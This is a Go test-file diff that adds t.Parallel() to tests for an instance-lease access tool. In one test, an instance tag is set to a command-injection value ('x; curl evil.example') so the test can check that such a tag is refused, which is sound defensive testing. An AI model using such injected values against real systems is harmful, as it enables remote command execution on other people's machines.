@@ -15,6 +15,7 @@ import (
 )
 
 func TestOpenRefused(t *testing.T) {
+	t.Parallel()
 	for _, tt := range []struct {
 		name string
 		cmd  OpenLease
@@ -46,6 +47,7 @@ func TestOpenRefused(t *testing.T) {
 }
 
 func TestOpenUnavailable(t *testing.T) {
+	t.Parallel()
 	for _, op := range []string{"find", "preflight"} {
 		inWorld(t, func(w *world) {
 			w.cloud.script(func(_ context.Context, o string, _ *Lease) error {
@@ -75,6 +77,7 @@ func TestOpenUnavailable(t *testing.T) {
 
 // What the prompt says comes from the command, the policy and the instance.
 func TestOpenPrompt(t *testing.T) {
+	t.Parallel()
 	inWorld(t, func(w *world) {
 		w.cloud.set("i-0far", func(in *Instance) { in.Tags[TagUser] = "rocky" })
 		for _, tt := range []struct {
@@ -143,6 +146,7 @@ func TestHostKeyAlias(t *testing.T) {
 
 // Whoever set a tag that is not taken has to learn that, and nobody what it says.
 func TestRefusedTagIsSaid(t *testing.T) {
+	t.Parallel()
 	inWorld(t, func(w *world) {
 		w.cloud.set("i-0dev", func(in *Instance) {
 			in.Tags[TagUser], in.Tags[TagHostKeyAlias] = "x; curl evil.example", "db.prod.example"
@@ -160,6 +164,7 @@ func TestRefusedTagIsSaid(t *testing.T) {
 
 // Where a name is ambiguous, the choice shows only what the caller may open.
 func TestAmbiguousName(t *testing.T) {
+	t.Parallel()
 	inWorld(t, func(w *world) {
 		// i-0dev and i-0shut are both called web, and no rule admits to i-0shut.
 		if r := w.must(alice, OpenLease{Instance: "web"}); r.Lease == nil || r.Lease.Instance.ID != "i-0dev" || r.Choose {
@@ -183,6 +188,7 @@ func TestAmbiguousName(t *testing.T) {
 
 // The source: from the command, else the saved one, else the default.
 func TestSourceOfLease(t *testing.T) {
+	t.Parallel()
 	inWorld(t, func(w *world) {
 		source := func(cmd OpenLease) string {
 			t.Helper()
@@ -219,6 +225,7 @@ func TestSourceOfLease(t *testing.T) {
 }
 
 func TestReasonPattern(t *testing.T) {
+	t.Parallel()
 	synctest.Test(t, func(t *testing.T) {
 		w := newWorld(t)
 		w.policy.Rules[0].ReasonPattern = regexp.MustCompile(`^OPS-\d+`)
